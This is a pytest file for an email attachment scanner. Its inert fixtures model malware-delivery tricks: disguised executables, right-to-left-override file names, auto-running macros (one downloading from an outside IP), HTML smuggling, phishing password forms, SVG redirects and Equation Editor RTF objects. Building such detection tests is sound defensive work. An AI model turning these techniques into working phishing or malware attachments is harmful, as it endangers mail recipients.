"""Attachment rules: each fires on the trick it is for, names the concrete file, and stays quiet on the
benign look-alikes (PDFs as octet-stream, zips of PDFs, S/MIME, calendar invites, voicemail WAVs,
Hebrew and Arabic file names, plain HTML receipts, ordinary Office files)."""

import base64
import io
import json
import struct
import zipfile
from email.mime.base import MIMEBase
from email.mime.multipart import MIMEMultipart
from email.mime.text import MIMEText
from importlib import resources

import pytest

from klezguard.core.filetypes import double_extension, risky_table, sniff
from tests.mailfactory import OWN, auth, build, check, context, rules

# --- inert payloads -----------------------------------------------------------------------------------


def program(size: int = 2048) -> bytes:
    """The first bytes of a Windows program: DOS header pointing to a PE header, then padding."""
    head = bytearray(b"MZ" + b"\x90\x00" * 29 + b"\x00" * 2)
    head = head[:0x3C] + struct.pack("<I", 0x80) + b"\x00" * (0x80 - 0x40)
    head += b"PE\x00\x00" + b"INERT TEST PAYLOAD "
    return bytes(head) + b"\x00" * (size - len(head))


PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + b"\x00" * 200 + b"\xff\xd9"
WAV = b"RIFF" + struct.pack("<I", 36 + 800) + b"WAVEfmt " + struct.pack("<IHHIIHH", 16, 1, 1, 8000, 8000, 1, 8)
WAV += b"data" + struct.pack("<I", 800) + b"\x80" * 800
LNK = b"L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00F" + b"\x00" * 300
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
ICS = (
    b"BEGIN:VCALENDAR\r\nVERSION:2.0\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nSUMMARY:Site visit\r\n"
    b"END:VEVENT\r\nEND:VCALENDAR\r\n"
)
XLSX_PARTS = {
    "[Content_Types].xml": b"<?xml version='1.0'?><Types/>",
    "xl/workbook.xml": b"<workbook><sheets><sheet name='Prices'/></sheets></workbook>",
    "xl/worksheets/sheet1.xml": b"<worksheet><sheetData/></worksheet>",
}


def zip_of(files: dict[str, bytes], compress: int = zipfile.ZIP_DEFLATED) -> bytes:
    bio = io.BytesIO()
    with zipfile.ZipFile(bio, "w", compress) as zf:
        for name, data in files.items():
            zf.writestr(name, data)
    return bio.getvalue()


def encrypted_zip(files: dict[str, bytes]) -> bytes:
    """A zip whose entries carry the 'encrypted' flag (as ZipCrypto writes it); names stay readable."""
    data = bytearray(zip_of(files, zipfile.ZIP_STORED))
    pos = 0
    while (pos := data.find(b"PK\x03\x04", pos)) >= 0:
        data[pos + 6] |= 1
        pos += 4
    pos = 0
    while (pos := data.find(b"PK\x01\x02", pos)) >= 0:
        data[pos + 8] |= 1
        pos += 4
    return bytes(data)


def ole_with_macro(code: str, lure: bool = True) -> bytes:
    """An inert OLE compound file whose directory names a VBA project, with readable macro source."""
    names = b"".join(
        n.encode("utf-16-le") + b"\x00\x00"
        for n in ("Root Entry", "WordDocument", "Macros", "_VBA_PROJECT", "ThisDocument")
    )
    body = (b"Enable Content to see this document. " if lure else b"Quarterly figures. ") + code.encode()
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504 + names + b"\x00" * 64 + body + b"\x00" * 512


PLAIN_OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504 + "Root Entry".encode("utf-16-le") + b"\x00" * 3000


def klez_message(name: str, ctype: str = "audio/x-wav", payload: bytes | None = None, iframe: bool = True) -> bytes:
    """Klez's shape: an HTML text that loads a part by cid:, the part declared as audio, no disposition."""
    outer = MIMEMultipart("alternative")
    outer["From"] = "Tom <tom.whitfield@example.com>"
    outer["To"] = "owner@harbour-test.example"
    outer["Subject"] = "so cool a flash, enjoy it"
    html = "<HTML><BODY>Hi<iframe src=cid:part1 height=0 width=0></iframe></BODY></HTML>" if iframe else "<p>Hi</p>"
    outer.attach(MIMEText(html, "html"))
    main, _, sub = ctype.partition("/")
    part = MIMEBase(main, sub, name=name)
    part.set_payload(base64.encodebytes(payload if payload is not None else program()).decode())
    part["Content-Transfer-Encoding"] = "base64"
    part["Content-ID"] = "<part1>"
    outer.attach(part)
    return outer.as_bytes()


def attach(name: str, mime: str, data: bytes, body: str = "Hi,\n\nplease see the attached file.\n\nAnna\n") -> bytes:
    return build(body=body, attachments=[(name, mime, data)])


def findings(result, rule_id):
    return [f for f in result.findings if f.rule == rule_id]


def one(result, rule_id):
    found = findings(result, rule_id)
    assert len(found) == 1, (rule_id, [f.rule for f in result.findings])
    return found[0]


def attachment_rules(result) -> set[str]:
    return {r for r in rules(result) if r.startswith("attachment.")}


# --- the table ----------------------------------------------------------------------------------------


def test_table_is_the_union_of_the_four_lists():
    table = risky_table()
    counts = {"gmail": 0, "microsoft": 0, "spamassassin": 0, "rspamd": 0}
    for entry in table.values():
        assert entry.severity in ("low", "medium", "high")
        assert entry.label and entry.kind
        for source in entry.blocked_by:
            counts[source] += 1
    assert counts == {"gmail": 54, "microsoft": 53, "spamassassin": 52, "rspamd": 105}
    assert len([e for e in table.values() if e.blocked_by]) == 144
    for ext in "exe scr pif com bat cmd js vbs hta ps1 lnk url iso img vhd msi jar reg chm cpl xll".split():
        assert table[ext].severity == "high", ext
    for ext in "deb apk dmg cab z xz ace arj lzh".split():
        assert table[ext].severity == "medium", ext


def test_table_is_data_apart_from_code():
    text = resources.files("klezguard.data").joinpath("extensions.json").read_text("utf-8")
    assert "exe" in json.loads(text)["extensions"]


# --- dangerous types ----------------------------------------------------------------------------------


def test_program_attachment_is_a_threat():
    result = check(attach("Invoice_5624.exe", "application/x-msdos-program", program()))
    f = one(result, "attachment.dangerous_type")
    assert f.severity == "high" and result.verdict == "threat"
    assert f.title == "Invoice_5624.exe is a Windows program"
    assert ".exe" in f.explanation
    assert f.evidence["File"] == "Invoice_5624.exe"
    assert f.evidence["Content"] == "Windows program"
    assert "Gmail" in f.evidence["Blocked by"]
    assert attachment_rules(result) == {"attachment.dangerous_type"}


@pytest.mark.parametrize(
    ("name", "severity", "label"),
    [
        ("Scan_6137.vbs", "high", "a script"),
        ("update.reg", "high", "a Windows registry file"),
        ("manual.chm", "high", "a help file"),
        ("setup.msi", "high", "a Windows installer"),
        ("tool.jar", "high", "a Java program"),
        ("app.apk", "medium", "an Android app"),
        ("package.deb", "medium", "a Linux software package"),
        ("files.cab", "medium", "an unusual archive"),
        ("customers.mdb", "low", "an Access database"),
    ],
)
def test_severity_follows_the_type(name, severity, label):
    f = one(check(attach(name, "application/octet-stream", b"inert test content\n" * 10)), "attachment.dangerous_type")
    assert f.severity == severity
    assert f.title == f"{name} is {label}"


def test_script_declared_honestly_is_still_a_threat():
    result = check(attach("Invoice_1807.js", "application/javascript", b"WScript.Echo('inert');\n"))
    assert one(result, "attachment.dangerous_type").severity == "high"
    assert "attachment.disguised_type" not in rules(result)


def test_name_only_in_content_type_counts():
    raw = klez_message("Remittance_Advice.exe", "application/octet-stream", iframe=False)
    result = check(raw)
    assert one(result, "attachment.dangerous_type").evidence["File"] == "Remittance_Advice.exe"
    assert "attachment.disguised_type" not in rules(result)


def test_hta_is_a_program_not_a_web_page():
    html = b"<html><head><script>var s=new ActiveXObject('WScript.Shell');</script></head></html>"
    result = check(attach("Delivery_Note.hta", "application/hta", html))
    assert attachment_rules(result) == {"attachment.dangerous_type"}


# --- disk images and shortcuts ------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["Delivery_Note.img", "Invoice.iso", "disk.vhd", "disk.vhdx"])
def test_disk_image(name):
    result = check(attach(name, "application/octet-stream", b"\xeb<\x90MSDOS5.0" + b"\x00" * 3000))
    f = one(result, "attachment.disk_image")
    assert f.severity == "high" and name in f.title
    assert "USB stick" in f.explanation
    assert "attachment.dangerous_type" not in rules(result)


def test_mac_disk_image_is_medium():
    f = one(check(attach("Installer.dmg", "application/x-apple-diskimage", b"\x00" * 600)), "attachment.disk_image")
    assert f.severity == "medium"


def test_shortcut_with_pdf_in_its_name():
    result = check(attach("PO-37226.pdf.lnk", "application/octet-stream", LNK))
    f = one(result, "attachment.shortcut")
    assert f.severity == "high"
    assert f.title == "PO-37226.pdf.lnk is a shortcut, not a document"
    assert "command" in f.explanation
    assert "attachment.double_extension" in rules(result)
    assert "attachment.dangerous_type" not in rules(result)


def test_internet_shortcut():
    url = b"[InternetShortcut]\r\nURL=file://203.0.113.9/share/invoice.exe\r\n"
    assert one(check(attach("Invoice.url", "application/octet-stream", url)), "attachment.shortcut").severity == "high"


def test_shortcut_disguised_as_pdf_by_content():
    result = check(attach("Invoice.pdf", "application/pdf", LNK))
    f = one(result, "attachment.disguised_type")
    assert f.title == "Invoice.pdf is a Windows shortcut in disguise"


# --- double extensions --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "decoy", "real", "padded"),
    [
        ("invoice.pdf.exe", "pdf", "exe", False),
        ("invoice.pdf      .exe", "pdf", "exe", True),
        ("report.doc....scr", "doc", "scr", True),
        ("Scan_0137.JPG.scr", "jpg", "scr", False),
        ("invoice.pdf.html", "pdf", "html", False),
        ("invoice.pdf        .zip", "pdf", "zip", True),
    ],
)
def test_double_extension_names(name, decoy, real, padded):
    d = double_extension(name)
    assert d is not None and (d.decoy, d.real, d.padded) == (decoy, real, padded)


@pytest.mark.parametrize(
    "name",
    [
        "v1.2.zip",
        "scan.2024.11.03.pdf",
        "photo.tar.gz",
        "file.min.js",
        "Invoice 2024-18455.pdf",
        "report.final.pdf",
        "backup.pdf.zip",
        "notes.txt",
        "a.b.c",
        ".exe",
        "invoice.pdf.",
    ],
)
def test_not_double_extensions(name):
    assert double_extension(name) is None


def test_double_extension_finding():
    result = check(attach("Invoice_3118.pdf.exe", "application/pdf", program()))
    f = one(result, "attachment.double_extension")
    assert f.severity == "high"
    assert f.title == "Invoice_3118.pdf.exe hides its real type"
    assert ".pdf and then .exe" in f.explanation
    assert "a PDF document (application/pdf)" in f.explanation
    # One finding for the name, one for the type; the declared PDF is told in the first, not again.
    assert attachment_rules(result) == {"attachment.double_extension", "attachment.dangerous_type"}


def test_padded_double_extension_shows_the_padding():
    name = "Statement_April.pdf" + " " * 34 + ".exe"
    f = one(check(attach(name, "application/octet-stream", program())), "attachment.double_extension")
    assert "[34 spaces]" in f.evidence["File"]
    assert "Spaces or dots" in f.explanation


def test_web_page_with_pdf_name_is_medium():
    page = b"<html><body><p>Your document is ready.</p></body></html>"
    f = one(check(attach("Statement.pdf.html", "text/html", page)), "attachment.double_extension")
    assert f.severity == "medium"


def test_minified_script_is_not_a_double_extension():
    result = check(attach("jquery.min.js", "application/javascript", b"var a=1;\n"))
    assert "attachment.double_extension" not in rules(result)
    assert "attachment.dangerous_type" in rules(result)


# --- hidden characters --------------------------------------------------------------------------------


def test_right_to_left_override():
    name = "invoice_\u202efdp.scr"
    result = check(attach(name, "application/octet-stream", program()))
    f = one(result, "attachment.hidden_characters")
    assert f.severity == "high"
    assert f.title == "The file name invoice_rcs.pdf is not what it seems"
    assert "invoice_[U+202E RIGHT-TO-LEFT OVERRIDE]fdp.scr" in f.explanation
    assert f.evidence["Looks like"] == "invoice_rcs.pdf"
    assert one(result, "attachment.dangerous_type").evidence["File"] == "invoice_[U+202E RIGHT-TO-LEFT OVERRIDE]fdp.scr"


def test_zero_width_space_in_a_program_name():
    f = one(check(attach("Invoice\u200b.exe", "application/octet-stream", program())), "attachment.hidden_characters")
    assert f.severity == "high" and "ZERO WIDTH SPACE" in f.explanation


def test_zero_width_space_in_a_pdf_name_is_only_a_hint():
    result = check(attach("Rechnung\u200b_2024.pdf", "application/pdf", PDF))
    assert one(result, "attachment.hidden_characters").severity == "low"
    assert result.verdict == "clean"


def test_long_padding_hides_the_extension():
    name = "Invoice" + " " * 40 + ".exe"
    f = one(check(attach(name, "application/octet-stream", program())), "attachment.hidden_characters")
    assert f.severity == "high" and "40 spaces" in f.explanation


@pytest.mark.parametrize(
    "name",
    [
        "חשבונית_2024.pdf",
        "فاتورة رقم 55.pdf",
        "فاتورة\u200f_2024.pdf",
        "Angebot Müller.pdf",
        "見積書.pdf",
        "Invoice 2024-18455.pdf",
    ],
)
def test_international_names_are_quiet(name):
    result = check(attach(name, "application/pdf", PDF))
    assert attachment_rules(result) == set(), [f.title for f in result.findings]


# --- declared type vs extension vs content ------------------------------------------------------------


def test_klez_program_declared_as_sound():
    result = check(klez_message("picture.pif"))
    f = one(result, "attachment.disguised_type")
    assert f.severity == "high"
    assert f.title == "picture.pif is a Windows program in disguise"
    assert "a sound file (audio/x-wav)" in f.explanation
    assert "Klez" in f.explanation
    assert "open an attached file by itself" in f.explanation  # the <iframe src=cid:...>
    assert one(result, "attachment.dangerous_type").severity == "high"


@pytest.mark.parametrize(
    ("name", "mime", "claimed"),
    [
        ("holiday.jpg", "image/jpeg", "a picture (image/jpeg)"),
        ("Invoice.pdf", "application/pdf", "a PDF document (application/pdf)"),
        ("readme.txt", "text/plain", "a text file (text/plain)"),
        ("readme.txt", "application/octet-stream", "a text file"),
        ("scan", "application/octet-stream", "a file with no type"),
    ],
)
def test_program_with_a_harmless_name(name, mime, claimed):
    result = check(attach(name, mime, program()))
    f = one(result, "attachment.disguised_type")
    assert f.severity == "high" and claimed in f.explanation
    assert "attachment.dangerous_type" not in rules(result)


def test_zip_named_pdf_is_medium():
    f = one(
        check(attach("Invoice.pdf", "application/octet-stream", zip_of({"a.txt": b"x"}))), "attachment.disguised_type"
    )
    assert f.severity == "medium" and "zip archive" in f.title


@pytest.mark.parametrize(
    ("name", "mime", "data"),
    [
        ("Statement_June.pdf", "application/octet-stream", PDF),
        ("Statement_June.pdf", "application/x-pdf", PDF),
        ("voicemail_5338.wav", "audio/x-wav", WAV),
        ("IMG_3501.JPG", "image/pjpeg", JPEG),
        ("photo.jpeg", "image/jpg", JPEG),
        ("invite.ics", "application/ics", ICS),
        ("invite.ics", "text/calendar", ICS),
        ("Price_list.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", zip_of(XLSX_PARTS)),
        ("Price_list.xlsx", "application/octet-stream", zip_of(XLSX_PARTS)),
        ("smime.p7s", "application/pkcs7-signature", b"0\x82\x03\x0f\x06\t*\x86H\x86\xf7\r\x01\x07\x02" + bytes(700)),
        ("cpufreqinfo.log", "text/x-log", b"[BEGIN] cpu0 800 MHz\n" * 20),
        ("export_September.csv", "text/csv", b"date,amount\n2024-09-01,12.50\n"),
        ("Terms.doc", "application/msword", PLAIN_OLE),
        ("logo.svg", "image/svg+xml", b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><circle/></svg>'),
        ("grub", "application/octet-stream", b"#!/bin/sh\n# If you change this file, run update-grub\n"),
    ],
)
def test_benign_look_alikes_are_quiet(name, mime, data):
    result = check(attach(name, mime, data))
    assert attachment_rules(result) == set(), [(f.rule, f.title) for f in result.findings]


def test_real_voicemail_in_klez_shape_is_quiet():
    assert attachment_rules(check(klez_message("voicemail.wav", payload=WAV))) == set()


def test_sniffing():
    assert sniff(program()).kind == "program"
    assert sniff(b"\x7fELF\x02\x01\x01" + b"\x00" * 60).label == "Linux program"
    assert sniff(LNK).kind == "shortcut"
    assert sniff(WAV).kind == "audio"
    assert sniff(JPEG).kind == "image"
    assert sniff(PDF).kind == "pdf"
    assert sniff(b"MZ is my initials\n").kind == "text"
    assert sniff(b"<!DOCTYPE html><html></html>").kind == "html"


# --- archives -----------------------------------------------------------------------------------------


def test_zip_with_a_script():
    result = check(attach("Delivery_Note.zip", "application/zip", zip_of({"Delivery_Note.js": b"WScript.Echo(1)"})))
    f = one(result, "attachment.archive_program")
    assert f.severity == "high"
    assert f.title == "Delivery_Note.zip holds a script: Delivery_Note.js"
    assert f.evidence["Risky files inside"] == ["Delivery_Note.zip › Delivery_Note.js"]


def test_zip_with_a_double_extension_program():
    data = zip_of({"Invoice_9197.pdf.exe": program(), "readme.txt": b"hello"})
    f = one(check(attach("Invoice_9197.zip", "application/zip", data)), "attachment.archive_program")
    assert "ends in .pdf.exe" in f.explanation


def test_program_with_harmless_name_inside_zip():
    data = zip_of({"photo.jpg": program()})
    f = one(check(attach("photos.zip", "application/zip", data)), "attachment.archive_program")
    assert f.title == "photos.zip holds a Windows program: photo.jpg"


def test_zip_of_pdfs_is_quiet():
    data = zip_of({f"Invoice_{i}.pdf": PDF for i in range(1, 4)})
    assert attachment_rules(check(attach("Invoices_January.zip", "application/zip", data))) == set()


def test_tar_gz_of_drawings_is_quiet():
    import tarfile

    bio = io.BytesIO()
    with tarfile.open(fileobj=bio, mode="w:gz") as tf:
        for name in ("drawings/plan_a.pdf", "drawings/plan_b.pdf"):
            info = tarfile.TarInfo(name)
            info.size = len(PDF)
            tf.addfile(info, io.BytesIO(PDF))
    assert attachment_rules(check(attach("drawings.tar.gz", "application/gzip", bio.getvalue()))) == set()


def test_gzip_inner_name():
    import gzip

    stored = gzip.compress(program())  # no name in the header: the outer name minus .gz
    f = one(check(attach("tool.exe.gz", "application/gzip", stored)), "attachment.archive_program")
    assert f.title == "tool.exe.gz holds a Windows program: tool.exe"
    bio = io.BytesIO()
    with gzip.GzipFile(filename="Invoice.scr", mode="wb", fileobj=bio) as gz:
        gz.write(program())
    f = one(check(attach("Invoice.gz", "application/gzip", bio.getvalue())), "attachment.archive_program")
    assert f.title == "Invoice.gz holds a Windows program: Invoice.scr"


def test_nested_archive_with_a_program():
    inner = zip_of({"Delivery_Note.bat": b"@echo inert\r\n"})
    result = check(attach("Delivery_Note.zip", "application/zip", zip_of({"Delivery_Note.zip": inner})))
    f = one(result, "attachment.archive_program")
    assert f.severity == "high"
    assert "second archive" in f.explanation
    assert f.evidence["Risky files inside"] == ["Delivery_Note.zip › Delivery_Note.zip › Delivery_Note.bat"]
    assert "attachment.nested_archive" not in rules(result)


def test_nested_archive_of_documents_is_only_a_hint():
    inner = zip_of({"plan.pdf": PDF})
    result = check(attach("project.zip", "application/zip", zip_of({"drawings.zip": inner, "notes.txt": b"hi"})))
    f = one(result, "attachment.nested_archive")
    assert f.severity == "low" and "drawings.zip" in f.explanation
    assert result.verdict == "clean"


def test_encrypted_zip_with_program_and_password_in_text():
    raw = attach(
        "Invoice_1586.zip",
        "application/zip",
        encrypted_zip({"Invoice_1586.scr": program()}),
        body="Hello,\n\nplease see the invoice.\n\nThe archive password is: invoice\n",
    )
    result = check(raw)
    f = one(result, "attachment.archive_program")
    assert f.severity == "high"
    assert "locked with a password" in f.explanation and "password is given in the mail" in f.explanation
    assert "attachment.encrypted_archive" not in rules(result)


def test_encrypted_zip_of_documents_is_medium():
    raw = attach(
        "Statement.zip",
        "application/zip",
        encrypted_zip({"Statement.pdf": PDF}),
        body="Hi,\n\nthe statement is attached. Password: 2024\n",
    )
    result = check(raw)
    f = one(result, "attachment.encrypted_archive")
    assert f.severity == "medium" and result.verdict == "suspicious"
    assert f.title == "Statement.zip is locked with a password"
    assert "Statement.pdf" in f.explanation and "password is given in the mail" in f.explanation


def test_7z_with_program_and_locked_7z():
    py7zr = pytest.importorskip("py7zr")

    def seven(password=None, header=False):
        bio = io.BytesIO()
        with py7zr.SevenZipFile(bio, "w", password=password, header_encryption=header) as z:
            z.writestr(program(200), "Invoice.exe")
        return bio.getvalue()

    f = one(check(attach("Invoice.7z", "application/x-7z-compressed", seven())), "attachment.archive_program")
    assert f.title == "Invoice.7z holds a Windows program: Invoice.exe"
    f = one(check(attach("Invoice.7z", "application/x-7z-compressed", seven("pw"))), "attachment.archive_program")
    assert "locked with a password" in f.explanation
    f = one(
        check(attach("Invoice.7z", "application/x-7z-compressed", seven("pw", True))), "attachment.encrypted_archive"
    )
    assert "Even the names" in f.explanation


def test_damaged_archives_say_nothing():
    for name, data in (
        ("a.rar", b"Rar!\x1a\x07\x01\x00garbage" * 10),
        ("a.zip", b"PK\x03\x04broken" * 20),
        ("a.7z", b"7z\xbc\xaf\x27\x1c" + b"\x00" * 40),
        ("a.gz", b"\x1f\x8b\x08\x00bad" * 9),
    ):
        assert attachment_rules(check(attach(name, "application/octet-stream", data))) == set()


def test_members_are_not_judged_when_the_archive_is_cut_off():
    """Archives over the fetch limit (8 MB) are only partly fetched: both views then say nothing about
    the members (mailfactory.check compares them)."""
    import os

    data = zip_of({"Invoice.exe": program(), "filler.bin": os.urandom(8_500_000)}, zipfile.ZIP_STORED)
    assert attachment_rules(check(attach("big.zip", "application/zip", data))) == set()


# --- Office macros ------------------------------------------------------------------------------------


def test_macro_that_starts_and_runs_a_program():
    code = 'Attribute VB_Name = "ThisDocument"\nSub Document_Open()\n  Shell "cmd /c echo inert"\nEnd Sub\n'
    result = check(attach("PO-81636.doc", "application/msword", ole_with_macro(code, lure=False)))
    f = one(result, "attachment.office_macro")
    assert f.severity == "high"
    assert f.title == "PO-81636.doc contains macros"
    assert "Document_Open" in f.explanation and "Shell" in f.explanation


def test_macro_that_starts_by_itself_only_is_medium():
    code = 'Sub AutoOpen()\n  MsgBox "hello"\nEnd Sub\n'
    doc = ole_with_macro(code, lure=False)
    f = one(check(attach("memo.doc", "application/msword", doc)), "attachment.office_macro")
    assert f.severity == "medium" and "AutoOpen" in f.explanation


def test_macro_with_enable_content_lure_is_high():
    code = 'Sub AutoOpen()\n  MsgBox "hello"\nEnd Sub\n'
    f = one(check(attach("memo.doc", "application/msword", ole_with_macro(code))), "attachment.office_macro")
    assert f.severity == "high" and "Enable Content" in f.explanation


def test_quiet_macro_from_outside_is_suspicious_even_from_a_proven_sender():
    code = 'Sub FormatTable()\n  Range("A1").Bold = True\nEnd Sub\n'
    raw = build(headers=[("Authentication-Results", auth(domain="weber-bau.example"))],
                attachments=[("Prices.xls", "application/vnd.ms-excel", ole_with_macro(code, lure=False))])
    result = check(raw)
    f = one(result, "attachment.office_macro")
    assert f.severity == "medium" and result.verdict == "suspicious"
    assert "outside your firm" in f.explanation


def test_quiet_macro_from_a_confirmed_colleague_is_only_a_hint():
    code = 'Sub FormatTable()\n  Range("A1").Bold = True\nEnd Sub\n'
    raw = build(from_="Ben <ben@harbour-test.example>", headers=[("Authentication-Results", auth(domain=OWN))],
                attachments=[("Prices.xls", "application/vnd.ms-excel", ole_with_macro(code, lure=False))])
    result = check(raw)
    f = one(result, "attachment.office_macro")
    assert f.severity == "low" and result.verdict == "clean"


def test_a_confirmed_colleagues_self_running_macro_is_suspicious_not_a_threat():
    code = 'Sub Workbook_Open()\n  Set o = CreateObject("Scripting.FileSystemObject")\nEnd Sub\n'
    data = ole_with_macro(code, lure=False)
    colleague = build(from_="Ben <ben@harbour-test.example>", headers=[("Authentication-Results", auth(domain=OWN))],
                      attachments=[("Prices.xls", "application/vnd.ms-excel", data)])
    f = one(check(colleague), "attachment.office_macro")
    assert f.severity == "medium" and "colleague" in f.explanation
    stranger = build(from_="Ben <ben@timber.example>",
                     headers=[("Authentication-Results", auth(domain="timber.example"))],
                     attachments=[("Prices.xls", "application/vnd.ms-excel", data)])
    assert one(check(stranger), "attachment.office_macro").severity == "high"


def test_docm_with_downloading_macro():
    vba = ole_with_macro('Sub AutoOpen()\n URLDownloadToFile 0, "http://203.0.113.7/a", "a", 0, 0\nEnd Sub\n', False)
    doc = zip_of(
        {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>", "word/vbaProject.bin": vba}
    )
    f = one(
        check(attach("Remittance.docm", "application/vnd.ms-word.document.macroEnabled.12", doc)),
        "attachment.office_macro",
    )
    assert f.severity == "high" and "URLDownloadToFile" in f.explanation


def test_xlsm_without_macros_is_quiet():
    raw = attach("Budget.xlsm", "application/vnd.ms-excel.sheet.macroEnabled.12", zip_of(XLSX_PARTS))
    assert attachment_rules(check(raw)) == set()


def test_macro_document_inside_a_zip():
    code = 'Sub Workbook_Open()\n  CreateObject("WScript.Shell").Run "calc"\nEnd Sub\n'
    data = zip_of({"Order.xls": ole_with_macro(code, lure=False)})
    f = one(check(attach("Order.zip", "application/zip", data)), "attachment.office_macro")
    assert f.severity == "high" and f.title == "Order.zip › Order.xls contains macros"


def test_rtf_with_equation_editor_object():
    rtf = rb"{\rtf1{\object\objemb\objupdate{\*\objclass Equation.3}{\*\objdata 0105000002000000}}}"
    f = one(check(attach("Order.rtf", "application/rtf", rtf)), "attachment.rtf_object")
    assert f.severity == "high" and "Equation.3" in f.explanation


def test_plain_rtf_letter_is_quiet():
    assert attachment_rules(check(attach("letter.rtf", "application/rtf", rb"{\rtf1\ansi Dear Sir,\par}"))) == set()


# --- web pages and SVG --------------------------------------------------------------------------------


def test_html_password_form():
    page = (
        b'<!DOCTYPE html><html><body><form method="post" action="https://dhl-parcelservice.example/6ty8y/login.php">'
        b'<input name="email"><input type="password" name="pw"><button>View</button></form></body></html>'
    )
    result = check(attach("Secure_Message.shtml", "text/html", page))
    f = one(result, "attachment.active_html")
    assert f.severity == "high"
    assert f.title == "Secure_Message.shtml asks for your password"
    assert "https://dhl-parcelservice.example/6ty8y/login.php" in f.explanation


def test_base64_hidden_password_form():
    inner = base64.b64encode(b'<form action="https://paypa1.example/x"><input type="password"></form>').decode()
    page = f'<html><script>document.write(atob("{inner}"));</script></html>'.encode()
    f = one(check(attach("Document_7560.html", "text/html", page)), "attachment.active_html")
    assert f.severity == "high" and "paypa1.example" in f.explanation


def test_svg_with_script_redirect():
    svg = (
        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="go()"><script>'
        b'function go(){window.location.href="https://barclays-businessbanking.example/6jokd/login.php"}'
        b"</script></svg>"
    )
    f = one(check(attach("VoiceMessage_775.svg", "image/svg+xml", svg)), "attachment.active_html")
    assert f.severity == "high"
    assert f.title == "VoiceMessage_775.svg sends you to another website"
    assert "picture format" in f.explanation


def test_html_smuggling():
    page = (
        b"<html><body><script>var b=atob('TVqQAAMAAAAEAAAA');var a=new Uint8Array(b.length);"
        b"var blob=new Blob([a]);var l=document.createElement('a');l.href=URL.createObjectURL(blob);"
        b"l.download='Invoice.iso';l.click();</script></body></html>"
    )
    f = one(check(attach("Invoice_7133.html", "text/html", page)), "attachment.active_html")
    assert f.severity == "high" and "hidden file" in f.explanation


def test_meta_refresh_is_medium():
    page = b'<html><head><meta http-equiv="refresh" content="0; url=https://login.example.net/"></head></html>'
    f = one(check(attach("Document.htm", "text/html", page)), "attachment.active_html")
    assert f.severity == "medium" and "https://login.example.net/" in f.explanation


def test_plain_html_receipt_is_quiet():
    page = (
        b"<html><head><style>td{padding:4px}</style></head><body><h1>Order R33071</h1><table><tr><td>Oak board"
        b"</td><td>GBP 42.00</td></tr></table><a href='https://shop.example/orders'>Your orders</a></body></html>"
    )
    assert attachment_rules(check(attach("Order_R33071.html", "text/html", page))) == set()


def test_html_with_only_a_script_is_a_hint():
    page = b"<html><body><script>document.getElementById('d').textContent=Date();</script><p id=d></p></body></html>"
    result = check(attach("report.html", "text/html", page))
    assert one(result, "attachment.active_html").severity == "low"
    assert result.verdict == "clean"


# --- EICAR --------------------------------------------------------------------------------------------


def test_eicar_is_flagged_but_not_called_dangerous():
    """Shown so that a user sees what a warning looks like, but not red "Dangerous" above a text that says
    the file is harmless."""
    result = check(attach("eicar.com", "application/octet-stream", EICAR + b"\r\n"))
    f = one(result, "attachment.eicar_test")
    assert f.severity == "medium" and result.verdict == "suspicious"
    assert "harmless test file" in f.explanation
    assert attachment_rules(result) == {"attachment.eicar_test"}


def test_eicar_inside_zip():
    result = check(attach("eicar.zip", "application/zip", zip_of({"eicar.com": EICAR})))
    assert attachment_rules(result) == {"attachment.eicar_test"}
    assert one(result, "attachment.eicar_test").title == "eicar.zip › eicar.com is the anti-virus test file"


def test_text_quoting_eicar_is_not_eicar():
    data = b"Our scanner test string is " + EICAR + b" - please ignore.\n"
    assert "attachment.eicar_test" not in rules(check(attach("notes.txt", "text/plain", data)))


# --- attached mails -----------------------------------------------------------------------------------


def test_program_inside_a_returned_mail():
    inner = klez_message("game.exe")
    outer = MIMEMultipart("report", report_type="delivery-status")
    outer["From"] = "Mail Delivery System <MAILER-DAEMON@mx.example.net>"
    outer["To"] = "owner@harbour-test.example"
    outer["Subject"] = "Undelivered Mail Returned to Sender"
    outer.attach(MIMEText("Your message could not be delivered."))
    returned = MIMEBase("message", "rfc822")
    returned.set_payload(inner.decode())
    outer.attach(returned)
    result = check(outer.as_bytes())
    f = one(result, "attachment.dangerous_type")
    assert "inside a mail that is attached" in f.explanation
    assert f.evidence["Found in"] == "a mail attached to this one"


def test_forwarded_mail_with_a_pdf_is_quiet():
    inner = build(attachments=[("statement.pdf", "application/pdf", PDF)])
    assert attachment_rules(check(build(attachments=[("Fwd.eml", "message/rfc822", inner)]))) == set()


def test_saved_web_page_with_frame_busting_is_only_a_hint():
    page = (b"<html><head><script>if (top != self) { top.location = self.location; }</script></head><body>"
            b"<p>Minutes of the meeting</p><a href='https://example.org/'>Club site</a>"
            b"<button onclick='window.open(\"https://example.org/print\")'>Print</button></body></html>")
    result = check(attach("minutes.html", "text/html", page))
    assert one(result, "attachment.active_html").severity == "low"
    assert result.verdict == "clean"


def test_form_without_password_posting_away_is_medium():
    page = b'<html><form action="https://survey.example.net/submit"><input name="email"><button>Go</button></form>'
    f = one(check(attach("survey.html", "text/html", page)), "attachment.active_html")
    assert f.severity == "medium" and "https://survey.example.net/submit" in f.explanation


def test_redirect_through_a_variable():
    page = b'<html><script>var u = "https://login.example.net/x"; setTimeout(function(){ location.href = u; });'
    f = one(check(attach("Document.html", "text/html", page)), "attachment.active_html")
    assert f.severity == "medium" and "https://login.example.net/x" in f.explanation


def test_hostile_markup_costs_little():
    import time

